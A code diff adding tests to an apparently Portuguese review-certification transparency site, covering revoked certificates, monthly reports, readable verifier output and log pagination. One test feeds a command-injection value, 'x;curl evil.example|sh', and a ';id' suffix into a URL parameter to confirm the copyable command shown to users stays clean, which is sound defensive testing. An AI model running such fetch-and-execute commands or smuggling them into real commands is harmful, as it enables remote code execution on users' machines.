@@ -109,6 +109,22 @@ test('somebody who distrusts us checks a review, a removal and a certificate wit
     said: expect.stringContaining('Avaliação retirada pela moderação, e o registo di-lo'),
   })
   expect(await given('check-proof.mjs', at.certificate ?? '')).toMatchObject({ status: 0 })
+  const { rows: ended } = await db.query<{ code: string }>(
+    "select 'AV-' || substr(code, 1, 5) || '-' || substr(code, 6, 5) || '-' || substr(code, 11, 1) code from certificates where state = 'revoked' limit 1",
+  )
+  expect(await given('check-proof.mjs', ended[0]?.code ?? '')).toMatchObject({
+    status: 0,
+    said: expect.stringMatching(/^! Certificado: revogado\./),
+  })
+  const { rows: months } = await db.query<{ month: string }>(
+    "select content->>'report' as month from log_facts where id like 'report:%' order by id desc limit 1",
+  )
+  const month = await given('check-proof.mjs', `/transparencia/${months[0]?.month.replace('-', '/')}`)
+  expect(month).toMatchObject({ status: 0, said: expect.stringContaining('De que trata: Relatório de') })
+  // What is said is for people: no names of fields, no things of programs, and the key to be noted.
+  expect(month.said).not.toContain('[object')
+  expect(review.said).not.toMatch(/(kind|stars|wouldHire):/)
+  expect(review.said).toMatch(/Estrelas: \d de 5[\s\S]*--key \S+\+[0-9a-f]{8}\+/)
   const file = join(folder, 'prova.json')
   const proof = await get(`/registo/provas/avaliacao/${at.published?.split('/').at(-1)}`)
   writeFileSync(file, proof)
@@ -124,6 +140,26 @@ test('somebody who distrusts us checks a review, a removal and a certificate wit
   expect(await given('check-proof.mjs', '/nada')).toMatchObject({ status: 2 })
   expect((await given('check-log.mjs', '--pages', '1')).status).toBe(0)
 }, 60_000)
+
+test('no link writes the command that people copy', async () => {
+  const page = await get(`/transparencia/verificar?morada=${encodeURIComponent('x;curl evil.example|sh')}`)
+  const [, commands = ''] = /<pre><code>([\s\S]*?)<\/code>/.exec(page) ?? []
+  expect(commands).toContain('check-proof.mjs')
+  expect(commands).not.toContain('evil')
+  const code = `${served.origin}/verificar-certificacao/AV-JZMEY-23SDN-H?x=;id`
+  const known = await get(`/transparencia/verificar?morada=${encodeURIComponent(code)}`)
+  expect(known).toMatch(/check-proof\.mjs \S+ AV-JZMEY-23SDN-H\n/)
+})
+
+test('the entries say where they go on, to the last', async () => {
+  let [at, seen]: [string | null, number] = ['/registo/entradas.json', 0]
+  while (at) {
+    const told = JSON.parse(await get(at)) as { entries: unknown[]; next: string | null }
+    seen += told.entries.length
+    at = told.next
+  }
+  expect(seen).toBe(await sizeNow())
+})
 
 test('of the demonstration every figure of every month is the one that a second way of counting gives', async () => {
   const { rows } = await db.query<{ month: string; figures: Record<string, number> }>(
